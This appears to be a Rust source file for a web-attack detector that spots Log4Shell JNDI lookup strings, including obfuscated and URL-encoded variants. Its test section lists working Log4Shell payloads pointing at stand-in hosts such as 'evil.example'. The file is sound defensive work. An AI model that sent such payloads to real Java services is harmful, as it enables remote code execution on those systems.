//! JNDI lookups (Log4Shell, CVE-2021-44228): `${jndi:ldap://...}` anywhere a Java service might
//! log it, in all its obfuscations. Log4j resolves nested lookups before the JNDI one, so
//! `${${lower:j}ndi:...}`, `${${::-j}${::-n}di:...}` and `${${env:X:-j}ndi:...}` all work against
//! it; this detector resolves the same lookups first, then looks for `${jndi:`.

use super::{Detector, Hit, Normalized, Place, CRITICAL};

/// Resolves Log4j's string lookups that attackers use to spell `jndi` (innermost first, bounded).
fn resolve(s: &str) -> String {
    let mut cur = s.to_string();
    for _ in 0..16 {
        let Some(open) = innermost(&cur) else { break };
        let close = open + cur[open..].find('}').expect("innermost has a close");
        let inner = &cur[open + 2..close];
        let value = if let Some(rest) = inner
            .strip_prefix("lower:")
            .or_else(|| inner.strip_prefix("upper:"))
        {
            rest.to_lowercase()
        } else if let Some(p) = inner.find(":-") {
            // `${::-j}`, `${env:NOPE:-j}`, `${sys:x:-j}`: the default value.
            inner[p + 2..].to_string()
        } else if let Some(rest) = inner.strip_prefix("date:") {
            rest.trim_matches('\'').to_string()
        } else {
            // Not a lookup we resolve (e.g. `jndi:...` itself): keep it, marked as resolved.
            cur.replace_range(open..open + 2, "\u{1}");
            continue;
        };
        cur.replace_range(open..=close, &value);
    }
    cur.replace('\u{1}', "${")
}

/// The start of an innermost `${...}` (no `${` inside before its `}`).
fn innermost(s: &str) -> Option<usize> {
    let mut best = None;
    let mut from = 0;
    while let Some(p) = s[from..].find("${") {
        let at = from + p;
        match (s[at + 2..].find('}'), s[at + 2..].find("${")) {
            (Some(c), Some(n)) if n < c => {}
            (Some(_), _) => {
                best = Some(at);
                break;
            }
            (None, _) => break,
        }
        from = at + 2;
    }
    best
}

pub fn check(v: &Normalized<'_>, _place: Place, out: &mut Vec<Hit>) {
    let l = v.lower.as_ref();
    if !l.contains("${") && !l.contains("jndi") {
        return;
    }
    let resolved = resolve(l);
    let squeezed: String = resolved.chars().filter(|c| !c.is_whitespace()).collect();
    if squeezed.contains("${jndi:") {
        out.push(Hit::new(Detector::Jndi, "jndi-lookup", CRITICAL, 1));
        return;
    }
    for proto in [
        "jndi:ldap",
        "jndi:rmi",
        "jndi:dns",
        "jndi:iiop",
        "jndi:corba",
        "jndi:nds",
        "jndi:http",
    ] {
        if squeezed.contains(proto) {
            out.push(Hit::new(Detector::Jndi, "jndi-url", CRITICAL, 1));
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::normalize::{normalize, Encoding};

    fn caught(s: &str) -> bool {
        let mut out = Vec::new();
        check(&normalize(s, Encoding::Plain), Place::Header, &mut out);
        !out.is_empty()
    }

    #[test]
    fn log4shell_in_its_obfuscations() {
        for s in [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://evil/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil/a}",
            "${${upper:J}${upper:N}DI:dns://evil}",
            "Mozilla/5.0 ${jndi:ldap://x/y}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
        ] {
            let v = normalize(s, Encoding::Form);
            let mut out = Vec::new();
            check(&v, Place::Query, &mut out);
            assert!(!out.is_empty() || caught(s), "{s}");
        }
        assert!(!caught("price is ${amount} today"));
        assert!(!caught("the jndi docs are on oracle.com"));
    }
}
